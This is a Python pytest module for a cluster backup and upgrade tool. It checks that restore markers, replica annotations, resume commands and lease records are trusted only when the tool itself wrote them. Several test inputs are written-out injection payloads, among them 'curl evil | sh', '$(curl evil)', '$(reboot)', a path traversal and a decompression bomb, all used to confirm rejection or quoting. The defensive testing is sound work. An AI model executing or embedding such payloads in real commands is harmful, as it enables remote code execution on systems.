"""What is noted on the cluster is believed only with what only we could have written (issue 14)."""

from __future__ import annotations

import lzma
from base64 import b64encode
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from openab_sop.agents.scaling import STOPPED, noted_replicas
from openab_sop.cluster.kube import Cluster
from openab_sop.cluster.lease import Board
from openab_sop.errors import ClusterError, SettingsError
from openab_sop.objects import Object
from openab_sop.releases.upgrade_state import UpgradeStateFile
from openab_sop.restores.mounted_volume import FILLING, RESTORED, has_marker, markers
from openab_sop.restores.reinstall import _policy_before  # pyright: ignore[reportPrivateUsage]
from openab_sop.upgrades.unfinished import again_by
from tests.unit.openab_sop.stored import made
from tests.unit.openab_sop.test_upgrade_state import COURSE


def claim(uid: str = "1-2-3", volume: str = "pvc-9", **notes: str) -> Object:
    return {"metadata": {"uid": uid, "annotations": notes}, "spec": {"volumeName": volume}}


def test_a_mark_is_believed_on_the_claim_that_it_was_written_for(tmp_path: Path) -> None:
    backup = made(tmp_path)
    (stored, *_) = backup.manifest.agents
    notes = markers(claim(), (RESTORED, FILLING), backup, stored)
    assert has_marker(claim(**notes), RESTORED, backup, stored)
    assert has_marker(claim(**notes), FILLING, backup, stored)
    assert has_marker(claim(volume="pvc-other", **notes), RESTORED, backup, stored), "it was bound since"
    assert not has_marker(claim("another", **notes), RESTORED, backup, stored), "it was copied from another claim"
    assert not has_marker(claim(**{FILLING: notes[RESTORED]}), FILLING, backup, stored), "one mark is not the other"


def test_a_mark_for_a_claim_that_is_to_be_made_goes_by_its_volume(tmp_path: Path) -> None:
    backup = made(tmp_path)
    (stored, *_) = backup.manifest.agents
    notes = markers({"metadata": {}, "spec": {"volumeName": "pvc-9"}}, [RESTORED], backup, stored)
    assert has_marker(claim(**notes), RESTORED, backup, stored)
    assert not has_marker(claim(volume="pvc-1", **notes), RESTORED, backup, stored)


@pytest.mark.parametrize("said", ["{}", "{} ", "{} 0000", "", "{} \u00e9", "other 0000"])
def test_what_anybody_could_write_is_no_mark(tmp_path: Path, said: str) -> None:
    backup = made(tmp_path)
    (stored, *_) = backup.manifest.agents
    assert not has_marker(claim(**{RESTORED: said.format(backup.manifest.name)}), RESTORED, backup, stored)
    assert not has_marker({"metadata": {}}, RESTORED, backup, stored)


def test_another_backup_of_the_same_name_does_not_vouch(tmp_path: Path) -> None:
    backup, other = made(tmp_path / "a"), made(tmp_path / "b")
    (stored, *_) = backup.manifest.agents
    with (other.directory / stored.key / "pvc-data" / "contents.jsonl").open("a") as lines:
        lines.write("\n")
    assert not has_marker(claim(**markers(claim(), [RESTORED], other, stored)), RESTORED, backup, stored)


@pytest.mark.parametrize(
    ("said", "replicas"),
    [(None, None), ("0", 0), ("1", 1), ("3", 3), ("99999", 1), ("-1", 1), ("x", 1), ("1; curl evil | sh", 1), ("²", 1)],
)
def test_replicas_are_a_number(said: str | None, replicas: int | None) -> None:
    assert noted_replicas({"metadata": {"annotations": {STOPPED: said} if said else {}}}) == replicas


@pytest.mark.parametrize(
    ("policy", "noted", "had"),
    [
        ("Retain", "Delete", "Delete"),
        ("Retain", "Retain", "Retain"),
        ("Delete", "Retain", None),
        ("Retain", "Purge", None),
        ("Retain", None, None),
    ],
)
def test_the_policy_that_a_volume_had(policy: str, noted: str | None, had: str | None) -> None:
    notes = {"openab-sop/reclaim-policy": noted} if noted else {}
    volume = {"metadata": {"annotations": notes}, "spec": {"persistentVolumeReclaimPolicy": policy}}
    assert _policy_before(volume) == had


@pytest.mark.parametrize(
    "begun",
    [
        "pytest suites/rollback",
        "pytest suites/rollback --abandon",
        "pytest suites/restore --backup=/home/me/openab-backups/x --items=home,secret --logins=backup",
        "pytest suites/reinstall --backup=s3://bucket/x",
    ],
)
def test_a_command_that_we_have_written(begun: str) -> None:
    assert again_by(begun) == begun


@pytest.mark.parametrize(
    "begun",
    [
        "pytest suites/x; curl evil | sh",
        "pytest suites/rollback --post-renderer=/tmp/evil",
        "pytest suites/rollback -p evil",
        "pytest suites/../../evil",
        "pytest suites/rollback '",
        "pytest",
        "",
        "curl evil",
        "upgrade to 0.8.2",
    ],
)
def test_a_command_that_somebody_else_has_written(begun: str) -> None:
    assert again_by(begun) == ("pytest suites/rollback" if begun else "")


def test_a_command_is_quoted_where_it_is_shown() -> None:
    assert again_by("pytest suites/restore '--backup=$(curl evil)'") == "pytest suites/restore '--backup=$(curl evil)'"
    assert again_by("pytest suites/restore --backup=$(reboot)") == "pytest suites/restore '--backup=$(reboot)'"


class Told(Board):
    """A lock whose record somebody has written."""

    def __init__(self, text: str) -> None:
        self.name, self._text = "openab-sop-openab", text

    def read(self) -> str | None:
        return self._text


def recorded(directory: Path, **changes: Any) -> str:
    other = UpgradeStateFile(directory)
    other.write(replace(COURSE, **changes))
    return other.path.read_text()


@pytest.mark.parametrize("change", [{"revision": 1}, {"version": "0.1.0"}, {"target": "9"}, {"digest": "1"}])
def test_a_record_on_the_lock_contradicts_the_disk(tmp_path: Path, change: dict[str, Any]) -> None:
    ours = UpgradeStateFile(tmp_path / "ours")
    ours.write(COURSE)
    before = ours.path.read_text()
    with pytest.raises(SettingsError, match=f"differ in .*: {next(iter(change))}"):
        UpgradeStateFile(tmp_path / "ours", Told(recorded(tmp_path / "theirs", serial=99, **change))).read()
    assert ours.path.read_text() == before


def test_a_record_that_goes_on_from_ours_is_taken_up(tmp_path: Path) -> None:
    UpgradeStateFile(tmp_path / "ours").write(COURSE)
    text = recorded(tmp_path / "theirs", serial=99, in_progress="stable", in_progress_from=3)
    found = UpgradeStateFile(tmp_path / "ours", Told(text)).read()
    assert found and found.in_progress == "stable"


class Leases(Cluster):
    """A cluster with one Lease, whose record is what somebody has written there."""

    said = ""

    def find(self, kind: str, name: str) -> Object | None:
        return {"metadata": {"annotations": {"openab-sop/record": self.said}}}


@pytest.mark.parametrize(
    "said",
    [
        b64encode(lzma.compress(bytes(65 << 20))).decode(),
        b64encode(lzma.compress(b"{}")[:-4]).decode(),
        "no base64",
        b64encode(b"no lzma").decode(),
    ],
    ids=["a bomb", "cut off", "text", "bytes"],
)
def test_a_record_that_cannot_be_read_is_a_refusal(said: str) -> None:
    cluster = object.__new__(Leases)
    object.__setattr__(cluster, "said", said)
    object.__setattr__(cluster, "access", type("A", (), {"namespace": "chat"})())
    with pytest.raises(ClusterError, match="cannot be read"):
        Board(cluster, "openab").read()
